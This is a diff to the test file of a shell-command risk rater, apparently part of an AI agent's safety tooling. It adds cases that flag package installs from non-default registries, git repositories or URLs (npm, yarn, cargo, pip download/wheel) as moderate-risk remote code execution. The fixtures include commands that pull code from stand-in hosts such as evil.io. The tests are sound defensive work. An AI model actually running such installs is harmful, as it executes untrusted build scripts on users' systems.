@@ -7,8 +7,10 @@ import { shellRater } from "../../test/helpers/shell-rated.js";
  * asked for; from a URL, a git repository or another package index, no registry vouches for the
  * code that runs, as with `npx evilpkg` (`moderate`, remote code execution). npm, pnpm, yarn and bun
  * read `user/repo` as a GitHub repository (hosted-git-info's shorthand); `@scope/pkg` is a registry
- * package. Local paths are the user's own and stay safe, as do the default indexes and `go install`
- * (Go runs no code when it installs).
+ * package. A one-off other registry (`--registry URL`, cargo's `--registry NAME`/`--index URL`) is
+ * another source too; `pip download` and `pip wheel` build as `pip install` does. Local paths are
+ * the user's own and stay safe, as do the default indexes, pip's constraints files (`-c URL` only
+ * pins versions) and `go install` (Go runs no code when it installs).
  */
 const rated = shellRater();
 
@@ -61,11 +63,39 @@ describe("packages installed from outside the registry", () => {
     ["cargo install --git=https://github.com/evil/tool --branch main", "a git repository"],
     ["gem install evil --source http://evil.io", "a package index other than RubyGems"],
     ["gem install evil --source=http://evil.io", "a package index other than RubyGems"],
+    ["npm install --registry http://evil.io pkg", "a registry other than npm's"],
+    ["npm i pkg --registry=http://evil.io", "a registry other than npm's"],
+    ["npm --registry http://evil.io install pkg", "a registry other than npm's"],
+    ["npm i -g pkg --registry=https://evil.io/npm/", "a registry other than npm's"],
+    ["pnpm add pkg --registry http://evil.io", "a registry other than npm's"],
+    ["yarn add pkg --registry=http://evil.io", "a registry other than npm's"],
+    ["bun add pkg --registry http://evil.io", "a registry other than npm's"],
+    ["yarn global add evil/pkg", "a git repository"],
+    ["yarn global add github:evil/pkg", "a git repository"],
+    ["yarn global add https://x.io/p.tgz", "a URL"],
+    ["yarn global add pkg --registry http://evil.io", "a registry other than npm's"],
+    ["cargo install --registry evil pkg", "a registry other than crates.io"],
+    ["cargo install --registry=evil pkg", "a registry other than crates.io"],
+    ["cargo install --index https://evil.io/index pkg", "a registry other than crates.io"],
+    ["cargo install pkg --index=sparse+https://evil.io/index/", "a registry other than crates.io"],
   ])("%s is moderate: from %s", (line, source) => {
     const r = rated(line);
     expect(r.risk, r.shown).toBe("moderate");
     expect(r.risk, r.shown).toBe(rated("npx evilpkg").risk);
     expect(r.details.join("\n"), r.shown).toContain(`installs and builds a package from ${source} (its install scripts run)`);
+  });
+
+  // pip download and pip wheel build an sdist (its setup.py runs) as pip install does.
+  it.each([
+    ["pip download git+https://github.com/evil/pkg.git", "a git repository"],
+    ["pip wheel git+https://github.com/evil/pkg.git", "a git repository"],
+    ["pip3 download https://x.io/pkg-1.0.tar.gz", "a URL"],
+    ["pip wheel -r https://x.io/requirements.txt", "a URL"],
+    ["python -m pip wheel --index-url https://evil.io/simple requests", "a package index other than PyPI"],
+  ])("%s is moderate: builds from %s", (line, source) => {
+    const r = rated(line);
+    expect(r.risk, r.shown).toBe("moderate");
+    expect(r.details.join("\n"), r.shown).toContain(`builds a package from ${source} (its build scripts run)`);
   });
 
   it.each([
@@ -111,6 +141,23 @@ describe("packages installed from outside the registry", () => {
     "gem install rails --source https://rubygems.org",
     "go install github.com/evil/tool@latest",
     "go install golang.org/x/tools/gopls@v0.16.0",
+    "npm install --registry https://registry.npmjs.org pkg",
+    "npm i pkg --registry=https://registry.npmjs.org/",
+    "yarn add pkg --registry https://registry.yarnpkg.com",
+    "yarn global add typescript",
+    "yarn global add @vue/cli",
+    "yarn global list",
+    "cargo install ripgrep --registry crates-io",
+    "cargo install ripgrep --index sparse+https://index.crates.io/",
+    "cargo search --registry evil pkg",
+    "pip install -c https://x.io/constraints.txt requests",
+    "pip install --constraint https://x.io/constraints.txt requests",
+    "pip install --constraint=https://x.io/constraints.txt requests",
+    "pip install -chttps://x.io/constraints.txt requests",
+    "pip download requests",
+    "pip wheel -r requirements.txt",
+    "pip wheel -w dist .",
+    "pip download -d dl requests -c https://x.io/constraints.txt",
   ])("%s stays safe", (line) => {
     const r = rated(line);
     expect(r.risk, r.shown).toBe("safe");
